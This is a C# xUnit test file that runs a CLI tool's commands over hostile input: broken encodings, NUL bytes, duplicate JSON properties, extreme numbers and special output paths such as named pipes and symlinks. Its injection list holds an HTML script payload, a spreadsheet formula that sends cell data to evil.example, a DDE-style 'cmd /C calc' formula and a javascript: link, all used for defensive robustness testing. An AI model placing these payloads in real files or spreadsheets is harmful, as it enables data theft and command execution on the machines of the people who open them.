using System.Text;
using MathPlc.Tests;
using Xunit.Abstractions;
using static MathPlc.Cli.Tests.Hostile.HostileProbe;

namespace MathPlc.Cli.Tests.Hostile;

/// <summary>
/// Issue 14: every command over a generated corpus of hostile input — encodings (invalid UTF-8, NUL, UTF-16 with a BOM,
/// a UTF-8 BOM), duplicate JSON properties, lone surrogates, truncated and empty files, injection strings in ids (HTML,
/// spreadsheet formulas, Markdown links, a 100 000-character id), extreme numbers (1e300, 2147483647, 1e-320, 1e400, NaN)
/// and special output paths (a named pipe, symbolic links, a device node when root, a folder, a missing folder, a path
/// under a file, the output given as an input) — and standard input. Each probe runs the real command line in process.
/// The checks are <see cref="HostileProbe"/>'s.
/// </summary>
public sealed class HostileInputTests(ITestOutputHelper log)
{
    /// <summary>The values injected where an id, a name or a code goes.</summary>
    public static readonly string[] Injections =
    [
        "<img src=x onerror=alert(1)>",
        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "\tTAB",
        "[x](javascript:alert(1)) | *b* _i_ # h",
        new string('x', 100_000),
    ];

    /// <summary>The values put where a number goes.</summary>
    public static readonly string[] Extremes = ["1e300", "-1e300", "2147483647", "-2147483648", "1e-320", "1e160", "1e400", "NaN", "-0"];

    public static TheoryData<string> Commands { get; } = new(HostileScenarios.All.Select(s => s.Command));

    [Theory]
    [MemberData(nameof(Commands))]
    public void Every_hostile_input_exits_0_2_or_3_and_leaks_nothing(string command)
    {
        var scenario = HostileScenarios.All.Single(s => s.Command == command);
        var failures = new List<string>();
        int probes = 0;
        void Check(string? failure)
        {
            probes++;
            if (failure is not null) failures.Add(failure);
        }

        var utf8 = scenario.Files.ToDictionary(f => f.Name, f => Encoding.UTF8.GetBytes(f.Text));
        string?[] formats = scenario.Formats.Count == 0 ? [null] : [.. scenario.Formats];
        string? first = formats[0];
        string baseline = Baseline(scenario, utf8, first);

        foreach (var format in formats) Check(Run(scenario, "as written", utf8, format, Expect.Done));

        foreach (var file in scenario.Files)
        {
            Dictionary<string, byte[]> With(byte[] bytes) => new(utf8) { [file.Name] = bytes };
            byte[] text = utf8[file.Name];
            Check(Run(scenario, $"{file.Name} with a UTF-8 BOM", With([0xEF, 0xBB, 0xBF, .. text]), first, Expect.SameAsBaseline, baseline));
            Check(Run(scenario, $"{file.Name} in UTF-16LE with a BOM", With([.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes(file.Text)]), first, Expect.SameAsBaseline, baseline));
            Check(Run(scenario, $"{file.Name} in UTF-16BE with a BOM", With([.. Encoding.BigEndianUnicode.GetPreamble(), .. Encoding.BigEndianUnicode.GetBytes(file.Text)]), first, Expect.SameAsBaseline, baseline));
            Check(Run(scenario, $"{file.Name} with 0xFF in a value", With(Insert(text, file.Text, [0xFF])), first, Expect.BadData, stderrMustContain: "bad-encoding"));
            Check(Run(scenario, $"{file.Name} with Latin-1 é", With(Insert(text, file.Text, [0xE9, (byte)'x'])), first, Expect.BadData, stderrMustContain: "bad-encoding"));
            Check(Run(scenario, $"{file.Name} with a NUL byte", With(Insert(text, file.Text, [0])), first, Expect.BadData, stderrMustContain: "nul-byte"));
            Check(Run(scenario, $"{file.Name} cut in half", With(text[..(text.Length / 2)]), first, Expect.Any));
            Check(Run(scenario, $"{file.Name} empty", With([]), first, Expect.Any));
            foreach (var (kind, make) in SpecialInputs)
                Check(Run(scenario, $"{file.Name} as {kind}", utf8, first, Expect.BadData, stderrMustContain: "not-a-file",
                    inputSetup: f => { File.Delete(f.PathOf(file.Name)); return make(f, f.PathOf(file.Name)); }));
            if (file.IsJson && file.DuplicateSnippet is { Length: > 0 } snippet)
            {
                Check(Run(scenario, $"{file.Name} with a property twice", With(Encoding.UTF8.GetBytes(ReplaceFirst(file.Text, snippet, snippet + ", " + snippet))), first, Expect.BadData,
                    stderrMustContain: "duplicate-property"));
                Check(Run(scenario, $"{file.Name} with a lone surrogate", With(Encoding.UTF8.GetBytes(ReplaceFirst(file.Text, snippet, snippet + ", \"x\\ud800\": 1"))), first, Expect.BadData));
            }
        }

        foreach (string injection in Injections)
        {
            var files = scenario.Files.ToDictionary(f => f.Name, f => Encoding.UTF8.GetBytes(f.Text.Replace(scenario.IdToken, Quoted(injection, f.IsJson), StringComparison.Ordinal)));
            foreach (var format in formats) Check(Run(scenario, $"id {Label(injection)}", files, format, Expect.Any));
        }

        foreach (var slot in scenario.Numbers)
            foreach (string extreme in Extremes)
            {
                var file = scenario.Files.Single(f => f.Name == slot.File);
                string changed = ReplaceFirst(file.Text, slot.Old, string.Format(System.Globalization.CultureInfo.InvariantCulture, slot.Template, extreme));
                Check(Run(scenario, $"{slot.Template.Replace("{0}", extreme, StringComparison.Ordinal)}", new Dictionary<string, byte[]>(utf8) { [slot.File] = Encoding.UTF8.GetBytes(changed) }, first, Expect.Any));
            }

        foreach (var change in scenario.Edits ?? [])
        {
            var file = scenario.Files.Single(f => f.Name == change.File);
            Check(Run(scenario, change.Label, new Dictionary<string, byte[]>(utf8) { [change.File] = Encoding.UTF8.GetBytes(ReplaceFirst(file.Text, change.Old, change.New)) },
                first, change.Code is null ? Expect.Any : Expect.BadData, stderrMustContain: change.Code));
        }

        foreach (var (name, expect, setup, after) in OutputPaths(scenario))
            Check(Run(scenario, $"--out {name}", utf8, first, expect, outSetup: setup, after: after));

        Check(Run(scenario, $"{scenario.Files[0].Name} as standard input (-)", utf8, first, Expect.SameAsBaseline, baseline, stdinFile: scenario.Files[0].Name));

        log.WriteLine($"{command}: {probes} probes, {failures.Count} failing");
        Assert.True(failures.Count == 0, $"{failures.Count} of {probes} probes failed:\n" + string.Join("\n", failures));
    }

    /// <summary>
    /// What an input path may lead to besides a regular file, each made in the probe's own folder (never the system's
    /// /dev): a named pipe no one writes to (opening it would wait for ever), a link to one, a folder, and as root a
    /// character device like /dev/zero (1, 5), which never ends.
    /// </summary>
    private static readonly (string Kind, Func<TemporaryFolder, string, bool> Make)[] SpecialInputs =
    [
        ("a named pipe", (f, path) => MakeFifo(path)),
        ("a link to a named pipe", (f, path) => MakeFifo(f.PathOf("pipe")) && File.CreateSymbolicLink(path, f.PathOf("pipe")) is not null),
        ("a folder", (f, path) => Directory.CreateDirectory(path).Exists),
        ("a character device", (f, path) => MakeCharacterDevice(path, minor: 5)),
    ];

    /// <summary>The special output paths, with what each must give and what must still hold after.</summary>
    private static IEnumerable<(string Name, Expect Expect, OutSetup Setup, Func<TemporaryFolder, string?>? After)> OutputPaths(HostileScenario scenario)
    {
        string file = scenario.WritesFolder ? "out/report.html" : "out.txt";
        yield return ("a missing folder", scenario.WritesFolder ? Expect.Any : Expect.Usage, f => f.PathOf("missing/out.txt"), null);
        yield return ("under a file", Expect.Usage, f => Path.Combine(f.Write("plain.txt", "x"), "out.txt"), f => File.ReadAllText(f.PathOf("plain.txt")) == "x" ? null : "plain.txt changed");
        yield return ("= an input", Expect.Usage, f => f.PathOf(scenario.Files[0].Name), null);
        if (scenario.WritesFolder)
        {
            yield return ("a regular file", Expect.Usage, f => f.Write("taken", "x"), null);
            yield return ("a folder whose report.html is a named pipe", Expect.Usage,
                f => { Directory.CreateDirectory(f.PathOf("out")); return MakeFifo(f.PathOf(file)) ? f.PathOf("out") : null; },
                f => !File.Exists(f.PathOf(file)) || new FileInfo(f.PathOf(file)).Length == 0 ? null : "the pipe was replaced");
            yield return ("a folder whose report.html links to a file", Expect.Done,
                f => { Directory.CreateDirectory(f.PathOf("out")); File.WriteAllText(f.PathOf("real.html"), ""); File.CreateSymbolicLink(f.PathOf(file), f.PathOf("real.html")); return f.PathOf("out"); },
                f => IsLink(f.PathOf(file)) && new FileInfo(f.PathOf("real.html")).Length > 0 ? null : "the link was not written through");
            yield break;
        }
        yield return ("a folder", Expect.Usage, f => Directory.CreateDirectory(f.PathOf("dir")).FullName, null);
        yield return ("a named pipe", Expect.Usage, f => MakeFifo(f.PathOf(file)) ? f.PathOf(file) : null,
            f => new FileInfo(f.PathOf(file)).Length == 0 && !IsLink(f.PathOf(file)) ? null : "the pipe was replaced");
        yield return ("a character device", Expect.Usage, f => MakeCharacterDevice(f.PathOf(file)) ? f.PathOf(file) : null,
            f => !File.Exists(f.PathOf(file)) || new FileInfo(f.PathOf(file)).Length == 0 ? null : "the device was replaced by a regular file");
        yield return ("a link to a regular file (followed)", Expect.Done,
            f => { File.WriteAllText(f.PathOf("real.txt"), ""); File.CreateSymbolicLink(f.PathOf(file), f.PathOf("real.txt")); return f.PathOf(file); },
            f => IsLink(f.PathOf(file)) && new FileInfo(f.PathOf("real.txt")).Length > 0 ? null : "the link was replaced instead of written through");
        yield return ("a link to a named pipe", Expect.Usage,
            f => MakeFifo(f.PathOf("pipe")) ? File.CreateSymbolicLink(f.PathOf(file), f.PathOf("pipe")).FullName : null, null);
        yield return ("a link to nothing", Expect.Usage, f => File.CreateSymbolicLink(f.PathOf(file), f.PathOf("nowhere.txt")).FullName,
            f => File.Exists(f.PathOf("nowhere.txt")) ? "wrote where a dangling link points" : null);
    }

    private static string Baseline(HostileScenario scenario, Dictionary<string, byte[]> files, string? format)
    {
        using var folder = new TemporaryFolder();
        foreach (var (name, bytes) in files) File.WriteAllBytes(folder.PathOf(name), bytes);
        var result = CliRun.Run([scenario.Command, .. scenario.Args(folder.PathOf), .. format is null ? [] : (string[])["--format", format]]);
        Assert.True(result.ExitCode == 0, $"{scenario.Command} as written: {result.Stderr}");
        return result.Stdout;
    }

    /// <summary>The bytes with <paramref name="inserted"/> put inside the first value of the file (after the id token, or in the middle).</summary>
    private static byte[] Insert(byte[] utf8, string text, byte[] inserted)
    {
        int at = text.IndexOf('\n', StringComparison.Ordinal) is >= 0 and var line ? line + 2 : text.Length / 2;
        at = Encoding.UTF8.GetByteCount(text[..Math.Min(at, text.Length)]);
        return [.. utf8[..at], .. inserted, .. utf8[at..]];
    }

    private static string ReplaceFirst(string text, string old, string replacement)
    {
        int at = text.IndexOf(old, StringComparison.Ordinal);
        Assert.True(at >= 0, $"the scenario lacks \"{old}\"");
        return text[..at] + replacement + text[(at + old.Length)..];
    }

    /// <summary>The value as it must be written in the file: JSON-escaped inside a string, or a CSV field quoted when needed.</summary>
    private static string Quoted(string value, bool json)
    {
        if (json) return System.Text.Json.JsonEncodedText.Encode(value, System.Text.Encodings.Web.JavaScriptEncoder.UnsafeRelaxedJsonEscaping).ToString();
        return value.IndexOfAny([',', '"', '\n', '\r', '\t']) >= 0 || value != value.Trim() ? "\"" + value.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"" : value;
    }

    private static string Label(string value) => value.Length > 40 ? $"of {value.Length} characters" : value;
}
